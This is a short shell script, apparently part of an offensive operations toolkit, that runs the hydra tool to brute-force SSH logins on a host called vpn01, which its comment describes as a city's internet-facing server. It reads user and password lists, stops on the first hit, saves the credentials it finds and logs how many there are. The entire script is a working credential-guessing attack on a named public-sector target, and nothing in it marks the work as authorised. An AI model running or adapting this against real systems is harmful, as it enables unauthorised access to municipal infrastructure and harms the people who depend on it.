#!/bin/sh
# Password guessing against the city's internet-facing SSH (vpn01).
. /root/ops/common.sh
log "bruteforce $TARGET start"
hydra -L "$OPS/users.txt" -P "$OPS/passwords.txt" -t 4 -f -I -o "$OPS/hydra-vpn01.txt" "ssh://$TARGET" > "$OPS/hydra-vpn01.log" 2>&1
log "bruteforce done: $(grep -c 'login:' "$OPS/hydra-vpn01.txt" 2>/dev/null) credential(s)"
[ -n "$(hoshu_pw)" ]
